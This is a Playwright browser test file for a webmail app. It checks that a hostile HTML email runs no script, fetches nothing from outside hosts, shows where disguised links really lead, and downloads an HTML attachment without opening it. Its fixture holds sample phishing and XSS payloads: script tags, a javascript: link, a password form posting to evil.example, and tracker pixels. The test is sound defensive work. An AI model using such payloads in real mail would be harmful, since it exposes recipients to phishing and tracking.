"""Hostile mail in a real browser: it runs nothing, fetches nothing, and says where its links lead."""

import re
from collections.abc import Callable

import pytest
from django.conf import settings
from playwright.sync_api import Page, Request, expect

from tests.arrivals import arrive
from tests.people import House

pytestmark = [pytest.mark.browser, pytest.mark.sampled]

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE = f"""\
From: "Northwind IT" <helpdesk@northwind.example>
To: support@house.test
Subject: Login loop after password reset
Message-ID: <hostile@northwind.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

<style>body {{ background: url(http://tracker.example/css) }}</style>
<script>top.document.title = "taken"</script>
<p onclick="alert(1)">Since this morning three colleagues cannot get past the sign-in page.</p>
<p>See <a href="http://evil.example/steal">https://bank.example/login</a> and
<a href="javascript:alert(1)">here</a>.</p>
<img src="http://tracker.example/pixel.gif" width="1" height="1">
<img src="cid:shot" alt="screen shot">
<form action="http://evil.example/"><input name="password"></form>
<iframe src="http://evil.example/"></iframe>
<p style="position: fixed; inset: 0; background: url(//tracker.example/x)">On Monday Alice wrote:</p>
<blockquote>the words of Monday</blockquote>
--b
Content-Type: image/png
Content-ID: <shot>
Content-Transfer-Encoding: base64

{PIXEL}
--b
Content-Type: text/html; name="report.html"
Content-Disposition: attachment; filename="report.html"

<script>alert(1)</script>
--b--
""".replace("\n", "\r\n").encode()


def test_hostile_mail_runs_nothing_and_fetches_nothing(
    house: House, page: Page, sign_in: Callable[[str], None], photograph: Callable[..., None]
) -> None:
    asked: list[str] = []

    def hear(request: Request) -> None:
        asked.append(request.url)

    page.on("request", hear)
    arrive(house.support, raw=HOSTILE)
    sign_in("alice@house.test")
    page.keyboard.press("o")
    frame = page.frame_locator("iframe.paper")
    expect(frame.get_by_text("Since this morning")).to_be_visible()
    expect(frame.get_by_text("leads to evil.example")).to_be_visible()
    expect(frame.locator("script, form, iframe, [onclick]")).to_have_count(0)
    expect(page.get_by_text("1 tracking pixel was left out.")).to_be_visible()
    expect(page).to_have_title(re.compile(r"^(\(\d+\) )?Login loop after password reset$"))

    expect(frame.get_by_text("the words of Monday")).to_have_count(0)
    frame.get_by_text("Quoted text").click()
    expect(frame.get_by_text("the words of Monday")).to_be_visible()

    picture = frame.locator("img[alt='screen shot']")
    assert picture.evaluate("async image => { await image.decode(); return image.naturalWidth }") == 1
    ours = (settings.WEB_ORIGIN, settings.CONTENT_ORIGIN, "data:")
    assert [url for url in asked if not url.startswith(ours)] == []
    photograph("hostile")


def test_the_frame_is_as_high_as_its_mail(house: House, page: Page, sign_in: Callable[[str], None]) -> None:
    """No scrollbar within a scrollbar, where the browser can size frames (Chromium from 154)."""
    arrive(house.support, raw=HOSTILE)
    sign_in("alice@house.test")
    if not page.evaluate("CSS.supports('frame-sizing', 'content-height')"):
        pytest.skip("this browser cannot size frames; the server's estimate stands")
    page.keyboard.press("o")
    frame = page.locator("iframe.paper")
    expect(frame).to_be_visible()
    body = page.frame_locator("iframe.paper").locator("html")
    expect(body).to_be_visible()
    page.wait_for_function(
        "height => Math.abs(document.querySelector('iframe.paper').clientHeight - height) < 4",
        arg=body.evaluate("html => html.scrollHeight"),
    )


def test_an_attachment_is_saved_and_never_opened(
    house: House, page: Page, sign_in: Callable[[str], None]
) -> None:
    arrive(house.support, raw=HOSTILE)
    sign_in("alice@house.test")
    page.keyboard.press("o")
    with page.expect_download() as download:
        page.get_by_role("link", name="report.html").click()
    assert download.value.suggested_filename == "report.html"
    assert download.value.url.startswith(settings.CONTENT_ORIGIN)
